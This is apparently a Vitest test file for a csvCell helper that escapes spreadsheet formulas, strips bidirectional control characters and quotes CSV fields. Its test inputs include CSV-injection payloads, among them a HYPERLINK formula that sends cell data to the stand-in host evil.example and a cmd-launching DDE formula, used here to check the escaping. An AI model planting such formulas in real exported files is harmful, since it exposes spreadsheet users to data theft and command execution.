import { describe, expect, it } from 'vitest';
import { csvCell } from './csv-cell.js';

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    ],
    ["+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    [' =1+1', "' =1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a formula: %j', (name, cell) => {
    expect(csvCell(name)).toBe(cell);
  });

  it('drops bidi controls that would show a name reversed', () => {
    expect(csvCell('Ann \u202eeciovni\u202c Lee\u2066\u200f')).toBe('Ann eciovni Lee');
  });

  it('keeps amounts as numbers and plain names as they are, quoting what would split a row', () => {
    expect(csvCell('-118.00')).toBe('-118.00');
    expect(csvCell('Lee, Ann')).toBe('"Lee, Ann"');
    expect(csvCell('Ann "A" Lee')).toBe('"Ann ""A"" Lee"');
    expect(csvCell('Anjali Rao-Menon')).toBe('Anjali Rao-Menon');
  });
});
